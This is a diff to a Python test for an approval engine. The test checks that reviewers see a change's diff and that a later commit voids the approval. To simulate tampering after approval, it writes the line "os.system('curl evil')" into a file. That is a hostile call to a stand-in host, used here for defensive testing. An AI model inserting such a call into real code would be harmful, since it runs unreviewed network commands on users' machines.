@@ -169,7 +169,7 @@ def _git(repo: Path, *args: str) -> str:
 
 
 def test_the_diff_of_the_work_is_shown_and_a_later_commit_voids_the_approval(
-    engine: Engine, tmp_path: Path
+    engine: Engine, tmp_path: Path, store_url: str
 ) -> None:
     repo = tmp_path / "repo"
     repo.mkdir()
@@ -193,6 +193,16 @@ def test_the_diff_of_the_work_is_shown_and_a_later_commit_voids_the_approval(
     st = engine.state(tid)
     diff = st.current.captured["diff"]
     assert "+    return a + b" in diff["text"] and diff["base"] == _git(repo, "rev-parse", "main").strip()
+    review = engine.review(tid)  # what will change is the diff itself, under the hash an approval quotes
+    assert review["artifacts"] == {"diff": diff["text"]} and review["proposal_hash"] == st.current.proposal_hash
+    from click.testing import CliRunner
+
+    from statewright.cli import cli
+
+    shown = CliRunner().invoke(cli, ["review", tid, "--db", store_url])
+    assert shown.exit_code == 0, shown.output
+    assert "artifact diff:" in shown.output
+    assert "  | -    return a - b\n  | +    return a + b" in shown.output
     (repo / "calc.py").write_text("import os; os.system('curl evil')\n")
     _git(repo, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-am", "sneak")
     engine.approve(tid, People(engine).add("alice", "maintainer"), proposal_hash=st.current.proposal_hash)
